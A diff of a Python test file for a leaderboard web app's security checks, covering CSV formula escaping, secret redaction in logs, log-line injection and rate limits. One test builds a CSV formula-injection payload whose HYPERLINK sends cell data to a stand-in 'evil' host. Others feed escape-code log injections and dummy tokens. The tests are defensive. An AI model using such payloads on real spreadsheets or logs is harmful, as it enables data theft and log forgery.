@@ -6,7 +6,7 @@ import json
 import logging
 import socket
 import sys
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
 from contextlib import ExitStack
 from http.client import HTTPConnection
@@ -15,7 +15,6 @@ from pathlib import Path
 from urllib.parse import urlsplit
 
 import httpx
-import pyarrow.parquet as pq
 import pytest
 from fastapi import FastAPI
 from huggingface_hub import HfApi
@@ -23,6 +22,7 @@ from starlette.responses import PlainTextResponse
 from starlette.types import Receive, Scope, Send
 
 from leaderboard.data.export import FORMULA, LINE, to_csv
+from leaderboard.data.ranking import RankedRow
 from leaderboard.pages import application as api
 from leaderboard.pages.application import build_app
 from leaderboard.web import security as guard
@@ -32,12 +32,11 @@ from submissions.config.logs import Redacting
 from submissions.config.paths import ROOT
 from submissions.config.settings import Settings
 from submissions.records.index_rows import board_row
-from submissions.records.request import EvalRequest
 from submissions.store.open import open_store
 from submissions.texts.errors import SettingsError
 from tests.conftest import settings_in
 from tests.support.hub.server import serve
-from tests.support.records import result_of
+from tests.support.records import Make, result_of
 
 API = "/gradio_api"
 
@@ -259,25 +258,10 @@ def test_submission_burst_is_rate_limited(client: httpx.Client, address: str, se
     assert len(requests) == 1
 
 
-def test_board_downloads_as_csv_json_and_parquet(reader: httpx.Client) -> None:
-    answer = reader.get("/boards/ko-vqa.csv")
-    assert answer.headers["Content-Encoding"] == "gzip"
-    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
-    assert (rows[0]["rank"], rows[0]["model"], rows[0]["em"]) == ("1", "Gemini-3-pro", "92.6") and len(rows) == 23
-    assert reader.get("/boards/ko-vqa.json").json()[0]["model"] == "Gemini-3-pro"
-    table = pq.read_table(io.BytesIO(reader.get("/boards/ko-vqa.parquet").content))
-    assert table.num_rows == 23 and table["em"][0].as_py() == 92.6
-    etag = answer.headers["ETag"]
-    assert reader.get("/boards/ko-vqa.csv", headers={"If-None-Match": etag}).status_code == 304
-    assert reader.get("/boards/none.csv").status_code == 404 and reader.get("/boards/ko-vqa.exe").status_code == 404
-
-
 @pytest.mark.parametrize(
     "start", [*FORMULA, *LINE, " =", "\u3000＝", "\x0b=", "\ufeff=", "\u2003+", "\u200b-", "\x00@", "\u202e="]
 )
-def test_csv_escapes_formulas(start: str, make_request: Callable[..., EvalRequest]) -> None:
-    from leaderboard.data.ranking import RankedRow
-
+def test_csv_escapes_formulas(start: str, make_request: Make) -> None:
     evil = f'{start}HYPERLINK("http://evil/?x="&A1,"click")'
     result = result_of(make_request()).evolve(
         config={"model_name": evil, "model_sha": None, "model_dtype": None, "organisation": evil, "license": evil},
@@ -291,6 +275,16 @@ def test_csv_escapes_formulas(start: str, make_request: Callable[..., EvalReques
     assert len(texts) == 7 and all(value == "'" + evil for value in texts)
 
 
+def logged(message: str, *arguments: object, error: Exception | None = None) -> logging.LogRecord:
+    """Return a record of this message and, with its traceback, of this error."""
+    try:
+        if error:
+            raise error
+        return logging.LogRecord("a", logging.INFO, "f", 1, message, arguments, None)
+    except Exception:
+        return logging.LogRecord("a", logging.INFO, "f", 1, message, arguments, sys.exc_info())
+
+
 def test_log_redacts_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("HANNUN_HUB_TOKEN", "the-writing-token")
     monkeypatch.setenv("HF_TOKEN", "the-reading-token")
@@ -298,19 +292,10 @@ def test_log_redacts_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("HANNUN_APIS", json.dumps({"gpt": api}))
     monkeypatch.setenv("OTHER_KEY", "the-key-a-setting-names")
     formatter = Redacting("%(name)s %(message)s", Settings())
-    try:
-        raise RuntimeError(
-            "the-key-a-setting-names 401 for url https://kim:the-writing-token@hub with Bearer abc.def-ghi123"
-        )
-    except RuntimeError:
-        record = logging.LogRecord(
-            "a", 20, "f", 1, "got %s and hf_abcdefgh12345", ("the-reading-token",), sys.exc_info()
-        )
-    text = formatter.format(record)
+    error = RuntimeError("the-key-a-setting-names for https://kim:the-writing-token@hub with Bearer abc.def-ghi123")
+    text = formatter.format(logged("got %s and hf_abcdefgh12345", "the-reading-token", error=error))
     assert "got [secret] and [secret]" in text and "RuntimeError" in text
-    more = formatter.format(
-        logging.LogRecord("a", 20, "f", 1, "hf_oauth_abc123 api_org_abcdef Basic a2ltOnB3", (), None)
-    )
+    more = formatter.format(logged("hf_oauth_abc123 api_org_abcdef Basic a2ltOnB3"))
     assert more == "a [secret] [secret] Basic [secret]"
     for secret in ("the-writing-token", "the-reading-token", "hf_abcdefgh", "abc.def", "setting-names"):
         assert secret not in text
@@ -320,14 +305,11 @@ def test_json_log_is_one_line_without_secrets(monkeypatch: pytest.MonkeyPatch) -
     monkeypatch.setenv("HANNUN_LOG", "json")
     monkeypatch.setenv("HANNUN_HUB_TOKEN", 'a-"quoted"-토큰')
     formatter = Redacting("%(message)s", Settings())
-    try:
-        raise RuntimeError('with a-"quoted"-토큰 in it')
-    except RuntimeError:
-        record = logging.LogRecord("a", 30, "f", 1, '한글\nand a-"quoted"-토큰', (), sys.exc_info())
-    line = formatter.format(record)
+    error = RuntimeError('with a-"quoted"-토큰 in it')
+    line = formatter.format(logged('한글\nand a-"quoted"-토큰', error=error))
     entry = json.loads(line)
     assert "\n" not in line and entry.keys() == {"time", "level", "logger", "message", "traceback"}
-    assert (entry["level"], entry["logger"], entry["message"]) == ("warning", "a", "한글\nand [secret]")
+    assert (entry["level"], entry["logger"], entry["message"]) == ("info", "a", "한글\nand [secret]")
     assert "RuntimeError" in entry["traceback"] and "quoted" not in line
 
 
@@ -391,15 +373,11 @@ def test_cross_site_logout_is_rejected(reader: httpx.Client) -> None:
 
 def test_log_messages_are_one_line() -> None:
     formatter = Redacting("%(message)s", Settings())
-    record = logging.LogRecord("a", 20, "f", 1, "model %s", ("x\n2026-11-24 worker published\x1b[2J",), None)
-    assert formatter.format(record) == "model x\\n2026-11-24 worker published\\x1b[2J"
-    try:
-        raise ValueError("x\n2026-11-24 worker published \x1b[31m")
-    except ValueError:
-        record = logging.LogRecord("a", 20, "f", 1, "failed", (), sys.exc_info())
-    lines = formatter.format(record).splitlines()
-    assert lines[0] == "failed" and all(line.startswith("  ") for line in lines[1:])
-    assert "\x1b" not in formatter.format(record)
+    model = "x\n2026-11-24 worker published\x1b[2J"
+    assert formatter.format(logged("model %s", model)) == "model x\\n2026-11-24 worker published\\x1b[2J"
+    text = formatter.format(logged("failed", error=ValueError("x\n2026-11-24 worker published \x1b[31m")))
+    first, *others = text.splitlines()
+    assert first == "failed" and all(line.startswith("  ") for line in others) and "\x1b" not in text
 
 
 def test_public_data_allows_any_origin(reader: httpx.Client) -> None:
@@ -418,15 +396,14 @@ def test_network_of_groups_ipv6_by_64() -> None:
     assert guard.network_of("testclient") == guard.network_of("1.2.3.4:80") == "unknown"
 
 
-def test_queue_burst_from_one_address_is_limited(settings: Settings) -> None:
-    with serve(build_app(settings)) as address, httpx.Client(base_url=address, timeout=60) as client:
-        answers = [client.post(f"{API}/queue/join", json=[]).status_code for _ in range(100)]
-        assert answers.count(429) >= 30 and client.get("/").status_code == 200
+def test_queue_burst_from_one_address_is_limited(client: httpx.Client) -> None:
+    answers = [client.post(f"{API}/queue/join", json=[]).status_code for _ in range(100)]
+    assert answers.count(429) >= 30 and client.get("/").status_code == 200
 
 
-def test_open_requests_per_address_are_limited(settings: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_open_requests_per_address_are_limited(address: str, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(guard, "MAX_OPEN", 5)
-    with serve(build_app(settings)) as address, ExitStack() as held:
+    with ExitStack() as held:
         for _ in range(5):
             client = held.enter_context(httpx.Client(base_url=address, timeout=60))
             held.enter_context(client.stream("GET", f"{API}/heartbeat/x"))
